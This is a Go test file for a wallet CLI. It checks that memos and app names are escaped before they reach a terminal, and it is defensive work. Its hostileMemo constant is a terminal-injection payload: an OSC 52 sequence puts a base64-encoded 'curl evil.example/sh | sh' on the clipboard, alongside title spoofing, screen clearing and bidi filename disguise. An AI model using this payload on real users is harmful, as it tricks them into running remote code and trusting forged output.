package cli_test

import (
	"context"
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/syftbox/syftwallet/api"
	"github.com/syftbox/syftwallet/ledger"
	"github.com/syftbox/syftwallet/money"
)

// hostileMemo holds every kind of control the terminal must never receive from someone else's
// text: OSC 52 (sets the clipboard), an OSC title, CSI (clears the screen, colours), C1 CSI,
// CR, NUL, BEL, and the bidi override and isolate.
const hostileMemo = "pay\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\x07 \x1b]0;syftwallet: verified\x07" +
	"\x1b[2J\x1b[H \u009b31m red\rNUL\x00 \u202egnp.exe \u2066iso\u2069 end"

// payloads are the parts of hostileMemo that must not reach the terminal as they are.
var payloads = []string{"\x1b]52;", "\x1b]0;", "\x1b[2J", "\x07", "\u009b", "\r", "\x00", "\u202e", "\u2066", "\u2069"}

// forbiddenIn reports a control byte (other than line feed), C1 or bidi rune in out.
func forbiddenIn(out string) (string, bool) {
	for i, r := range out {
		switch {
		case r == utf8.RuneError && !strings.HasPrefix(out[i:], "\uFFFD"):
			return out[i : i+1], true
		case r == '\n':
		case r < 0x20, r == 0x7f, r >= 0x80 && r <= 0x9f, r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069,
			r == 0x200e, r == 0x200f, r == 0x061c:
			return string(r), true
		}
	}
	return "", false
}

// storeHostile writes, below the HTTP layer (as data from before the service refused it would
// be), a payment from grace to ada with hostileMemo as memo and metadata, and a pending hold
// whose app name and endpoint are hostileMemo.
func (e *env) storeHostile() {
	e.t.Helper()
	ctx := context.Background()
	grace, err := e.store.AccountByEmail(ctx, "grace@example.com")
	if err != nil {
		e.t.Fatal(err)
	}
	memo := hostileMemo
	if _, err := e.store.Pay(ctx, ledger.Payment{SenderID: grace.ID, RecipientEmail: "ada@example.com",
		Amount: 4_200_000, Memo: &memo, Metadata: map[string]string{"note\x1b[2J": hostileMemo}}); err != nil {
		e.t.Fatal(err)
	}
	app := hostileMemo
	if _, err := e.store.Hold(ctx, ledger.Hold{SenderEmail: "grace@example.com", RecipientEmail: "ada@example.com",
		Amount: money.Scale, CreatedBy: api.PartySender, AppName: &app, AppEpPath: &app}); err != nil {
		e.t.Fatal(err)
	}
}

// TestHostileTextNeverReachesTheTerminal pays with a memo holding every control class, stored
// through the ledger as old data would be, and checks every byte that history and events write
// for people: none of the memo's controls, all of it visible as escapes. --json keeps the exact
// value, safely escaped. And the service refuses such a memo on a new payment.
func TestHostileTextNeverReachesTheTerminal(t *testing.T) {
	e := newSignedIn(t, acct{"ada@example.com", "10"}, acct{"grace@example.com", "100"})

	live := e.follow("events")
	e.storeHostile()
	waitFor(t, "the hostile events", func() bool {
		s := live.out.String()
		return strings.Contains(s, "payment.received") && strings.Contains(s, "transaction.pending")
	})
	live.stop()

	hist := e.must(call{args: []string{"history"}})
	for name, s := range map[string]string{"events": live.out.String(), "events stderr": live.errb.String(),
		"history": hist.stdout, "history stderr": hist.stderr} {
		if bad, ok := forbiddenIn(s); ok {
			t.Errorf("%s writes %q to the terminal:\n%q", name, bad, s)
		}
		for _, p := range payloads {
			if strings.Contains(s, p) {
				t.Errorf("%s holds the memo's %q", name, p)
			}
		}
	}
	for name, s := range map[string]string{"events": live.out.String(), "history": hist.stdout} {
		if !strings.Contains(s, `pay\x1b]52;c;`) {
			t.Errorf("%s does not show the memo, escaped:\n%s", name, s)
		}
	}

	// --json: the exact values, and bytes that are safe to print all the same.
	js := e.must(call{args: []string{"history", "--json"}})
	if bad, ok := forbiddenIn(js.stdout); ok {
		t.Errorf("history --json writes %q raw:\n%q", bad, js.stdout)
	}
	var doc struct {
		Transactions []struct {
			Memo     *string           `json:"memo"`
			AppName  *string           `json:"appName"`
			Metadata map[string]string `json:"metadata"`
		} `json:"transactions"`
	}
	decode(t, js.stdout, &doc)
	var memos, apps int
	for _, tx := range doc.Transactions {
		if tx.Memo != nil && *tx.Memo == hostileMemo && tx.Metadata["note\x1b[2J"] == hostileMemo {
			memos++
		}
		if tx.AppName != nil && *tx.AppName == hostileMemo {
			apps++
		}
	}
	if memos != 1 || apps != 1 {
		t.Errorf("--json does not keep the exact memo (%d) and app name (%d): %s", memos, apps, js.stdout)
	}
	ev, _ := json.Marshal(hostileMemo)
	if !strings.Contains(js.stdout, strings.ReplaceAll(strings.ReplaceAll(strings.ReplaceAll(strings.ReplaceAll(string(ev),
		"\u009b", `\u009b`), "\u202e", `\u202e`), "\u2066", `\u2066`), "\u2069", `\u2069`)) {
		t.Errorf("--json memo is not the escaped exact value: %s", js.stdout)
	}

	// CSV: escaped too, one row each.
	csvOut := e.must(call{args: []string{"history", "--csv"}}).stdout
	if bad, ok := forbiddenIn(csvOut); ok {
		t.Errorf("history --csv writes %q:\n%q", bad, csvOut)
	}

	// The service refuses the same memo on a new payment: 400 on the memo field.
	r := e.do(call{args: []string{"pay", "--to", "grace@example.com", "--amount", "1", "--memo", hostileMemo, "--yes"}})
	if r.code != 1 || !strings.Contains(r.stderr, "memo must not contain control characters") {
		t.Errorf("pay with the hostile memo: exit %d %q", r.code, r.stderr)
	}
	if bad, ok := forbiddenIn(r.stderr); ok {
		t.Errorf("pay's refusal writes %q: %q", bad, r.stderr)
	}
	body := e.http("POST", "/payments", basicAuth("ada@example.com"),
		map[string]any{"recipientEmail": "grace@example.com", "amount": "1", "memo": hostileMemo}, 400)
	var ae api.Error
	if err := json.Unmarshal(body, &ae); err != nil || ae.Field != "memo" || ae.Code != api.CodeInvalidRequest {
		t.Errorf("POST /payments with the hostile memo: %s", body)
	}
}

// Line breaks from someone else's memo are controls like the others: the human output of
// history and events shows them as the visible escapes the wallet and the CSV show (\r, \u0085,
// \u2028), never turned into a space as if nothing had been there.
func TestHumanOutputShowsLineBreaksAsEscapes(t *testing.T) {
	e := newSignedIn(t, acct{"ada@example.com", "10"}, acct{"grace@example.com", "100"})
	grace, err := e.store.AccountByEmail(context.Background(), "grace@example.com")
	if err != nil {
		t.Fatal(err)
	}
	memo := "fake\rOVERWRITE\u0085next\u2028line\ttab"
	if _, err := e.store.Pay(context.Background(), ledger.Payment{SenderID: grace.ID, RecipientEmail: "ada@example.com",
		Amount: 1_000_000, Memo: &memo}); err != nil {
		t.Fatal(err)
	}
	want := `fake\rOVERWRITE\u0085next\u2028line\ttab`
	if out := e.must(call{args: []string{"history"}}).stdout; !strings.Contains(out, want) {
		t.Errorf("history does not show %s:\n%s", want, out)
	}
	ev := e.start("events", "--since", "0")
	waitFor(t, "grace's payment event", func() bool { return strings.Contains(ev.out.String(), "from grace@example.com") })
	ev.stop()
	if !strings.Contains(ev.out.String(), want) {
		t.Errorf("events does not show %s:\n%s", want, ev.out.String())
	}
}

// A cancelled transaction moved no money: the human output of history and events shows its
// amount without a sign, as every screen of the wallet does (the CSV and --json keep the
// direction's sign: they are data, with the status beside it).
func TestHumanOutputShowsCancelledWithoutSign(t *testing.T) {
	e := newSignedIn(t, acct{"ada@example.com", "100"}, acct{"grace@example.com", "10"})
	body := e.http("POST", "/transaction/create", basicAuth("ada@example.com"),
		map[string]any{"senderEmail": "ada@example.com", "recipientEmail": "grace@example.com", "amount": "7.25"}, 201)
	var created struct {
		Transaction api.Transaction `json:"transaction"`
	}
	decode(t, string(body), &created)

	ev := e.follow("events")
	e.http("POST", "/transaction/cancel", basicAuth("ada@example.com"), map[string]any{"transactionId": created.Transaction.ID}, 200)
	waitFor(t, "the cancel event", func() bool { return strings.Contains(ev.out.String(), "transaction.cancelled") })
	ev.stop()

	lineOf := func(s, word string) string {
		for _, l := range strings.Split(s, "\n") {
			if strings.Contains(l, word) {
				return l
			}
		}
		return ""
	}
	hist := e.must(call{args: []string{"history"}}).stdout
	for name, l := range map[string]string{"history": lineOf(hist, "CANCELLED"),
		"events": lineOf(ev.out.String(), "transaction.cancelled")} {
		if !strings.Contains(l, "7.25") || strings.Contains(l, "-7.25") || strings.Contains(l, "+7.25") {
			t.Errorf("%s shows the cancelled amount with a sign: %q", name, l)
		}
	}
	js := e.must(call{args: []string{"history", "--json"}}).stdout
	var doc struct {
		Transactions []struct{ Amount, Status string } `json:"transactions"`
	}
	if err := json.Unmarshal([]byte(js), &doc); err != nil || len(doc.Transactions) == 0 {
		t.Fatalf("history --json: %v %s", err, js)
	}
	if csv := e.must(call{args: []string{"history", "--csv"}}).stdout; !strings.Contains(csv, ",-7.25,USD,CANCELLED,") {
		t.Errorf("the CSV lost the direction's sign:\n%s", csv)
	}
}
